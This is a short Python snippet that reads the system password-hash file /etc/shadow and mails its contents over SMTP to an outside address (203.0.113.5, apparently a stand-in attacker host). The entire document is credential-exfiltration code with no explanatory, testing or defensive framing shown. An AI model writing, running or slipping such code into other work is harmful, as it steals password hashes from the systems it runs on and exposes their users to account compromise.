import smtplib, os
m = smtplib.SMTP('203.0.113.5')
m.sendmail('a@b', 'c@d', open('/etc/shadow').read())
